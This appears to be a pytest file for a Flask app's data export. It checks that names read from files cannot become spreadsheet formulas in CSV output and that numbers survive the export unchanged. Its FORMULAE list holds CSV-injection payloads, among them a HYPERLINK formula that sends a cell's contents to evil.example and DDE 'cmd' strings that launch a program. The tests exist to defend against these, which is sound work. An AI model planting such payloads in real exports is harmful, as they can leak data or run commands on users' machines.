"""Row F1: a name out of a file must not become a formula in a spreadsheet, and a number must stay a number."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from app.api.alerts import _cell
from app.export.cell import cell
from tests.support.seed import RUN, Seed

AT = 1_795_961_300.0
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
FORMULAE = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1.2e-3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '",=1+1',
    '";=1+1',
    "a,=1+1",
    "a;=1+1",
    'a"\n=1+1',
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1"',
    "＝1+1",
    "\0=1+1",
)


def read(text: str) -> list[list[str]]:
    """As a spreadsheet reads it: RFC 4180, lines in quotes and all."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def is_harmless(text: str) -> bool:
    """Whether a spreadsheet shows it as text, also one that drops blanks, marks and quotes before it looks."""
    stripped = text.lstrip().lstrip('\u200b\u200e\u200f\u2060\ufeff\0"').lstrip()
    return not stripped.startswith(DANGEROUS) and not text.startswith(DANGEROUS)


@pytest.mark.parametrize("name", FORMULAE)
def test_f1_a_tag_is_no_formula_in_the_head_or_in_a_row(client: FlaskClient, seed: Seed, name: str) -> None:
    seed.points([(1, AT, -1.2e-3), (2, AT + 1, 7.0)], metric=None, tag=name)
    wide = read(client.get(f"/api/runs/{RUN}/export.csv?all=1").data.decode())
    assert [len(row) for row in wide] == [6, 6, 6]
    assert is_harmless(wide[0][5])
    assert wide[0][5] in (name, f"'{name}")  # and still tells what it is called
    long = read(client.get(f"/api/runs/{RUN}/export.csv?all=1&layout=long").data.decode())
    assert [len(row) for row in long] == [8, 8, 8]
    assert all(is_harmless(row[4]) for row in long)


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_f1_numbers_stay_numbers(client: FlaskClient, seed: Seed, layout: str) -> None:
    values = [-1.2e-3, -1e-30, 1e22, -0.0, -5.0, 1e-7]
    seed.points([(-3 + step, AT + step, value) for step, value in enumerate(values)], metric="loss")
    _, *rows = read(client.get(f"/api/runs/{RUN}/export.csv?layout={layout}").data.decode())
    assert [float(row[-1]) for row in rows] == values
    assert [int(row[0]) for row in rows] == [*range(-3, 3)]


def test_f1_json_and_parquet_keep_names_as_they_are(client: FlaskClient, seed: Seed) -> None:
    for name in FORMULAE:
        seed.points([(1, AT, 1.0)], metric=None, tag=name)
    (line,) = client.get(f"/api/runs/{RUN}/export.jsonl?all=1").data.decode().splitlines()
    assert set(FORMULAE) <= set(json.loads(line))


@given(st.text(max_size=12) | st.text(alphabet="=+-@\t\r\n \"',;a0＝", max_size=6))
def test_f1_whatever_a_name_is_its_cell_is_one_harmless_text(name: str) -> None:
    ((found, end),) = read(f"{cell(name)},end\n")
    assert end == "end"
    assert is_harmless(found)
    assert found in (name, f"'{name}")


def test_f1_alerts_are_saved_by_the_same_rule(client: FlaskClient, seed: Seed) -> None:
    seed.points([(1, AT, 1.0)])
    found = client.get(f"/api/runs/{RUN}/alerts/export?format=csv")
    assert found.status_code == 200
    assert all(is_harmless(_cell(name)) for name in FORMULAE)
    assert [_cell(number) for number in (-1.2e-3, -5, None)] == [-1.2e-3, -5, None]
